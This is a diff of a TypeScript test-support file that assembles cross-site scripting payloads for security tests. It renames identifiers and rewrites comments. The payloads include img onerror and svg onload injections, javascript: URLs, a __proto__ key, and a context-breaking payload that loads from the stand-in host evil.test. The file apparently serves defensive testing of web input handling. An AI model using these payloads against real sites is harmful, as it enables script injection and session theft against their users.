@@ -1,7 +1,7 @@
-import { hostileOf } from '../expand';
+import { hostileInputs } from '../support/hostileInputs';
 
-/** What would call back, or reach for another host, wherever a text is taken for more than a text. */
-const OWN = [
+/** Payloads that call `__xss` or request another host when they are interpreted. */
+const OWN_PAYLOADS = [
   "<img src=x onerror=__xss('image')>",
   "javascript:__xss('link')",
   "\tjavascript:__xss('link behind a tab')",
@@ -27,27 +27,26 @@ const OWN = [
   '__proto__',
 ];
 
-const LONGEST = 300;
-/** What no field takes: controls but tabs and newlines, and half signs. */
-const UNKEEPABLE = /(?![\t\n\r])\p{Cc}|\p{Cs}/u;
+const MAX_LENGTH = 300;
+/** Control characters and lone surrogates, which no field accepts. */
+const NOT_STORABLE = /(?![\t\n\r])\p{Cc}|\p{Cs}/u;
 
-/** Every text that is stored and shown, those of the corpus and ours. */
+/** All payloads: of the corpus and our own. */
 export const PAYLOADS: readonly string[] = [
-  ...hostileOf('xss', 'url', 'csv', 'text', 'redirect', 'mail', 'notif').flatMap(({ value }) =>
-    typeof value === 'string' && value.length <= LONGEST && !UNKEEPABLE.test(value) ? [value] : [],
+  ...hostileInputs('xss', 'url', 'csv', 'text', 'redirect', 'mail', 'notif').flatMap(({ value }) =>
+    typeof value === 'string' && value.length <= MAX_LENGTH && !NOT_STORABLE.test(value) ? [value] : [],
   ),
-  ...OWN,
+  ...OWN_PAYLOADS,
 ];
 
-/** The mark by which a text is known again wherever it is shown. */
-export const markOf = (number: number): string => `zq${String(number)}z`;
+/** Marker that identifies a field wherever its text is shown. */
+export const createMarker = (number: number): string => `zq${String(number)}z`;
 
-/** Every mark in a text. */
-export const marksIn = (text: string): string[] => text.match(/zq\d+z/g) ?? [];
+export const findMarkers = (text: string): string[] => text.match(/zq\d+z/g) ?? [];
 
-/** Breaks out of whatever a text may stand in, and tells which field it was. */
-export const breakOut = (mark: string): string =>
-  ` ${mark}"'></textarea></title></style></script><img src=//evil.test/${mark} onerror="__xss('${mark}')">`;
+/** A payload that breaks out of common contexts and names its field. */
+export const breakOut = (marker: string): string =>
+  ` ${marker}"'></textarea></title></style></script><img src=//evil.test/${marker} onerror="__xss('${marker}')">`;
 
-/** The same for where there is little room. */
-export const shortBreakOut = (mark: string): string => `<svg onload=__xss()>${mark}`;
+/** A short variant for fields with a length limit. */
+export const shortBreakOut = (marker: string): string => `<svg onload=__xss()>${marker}`;
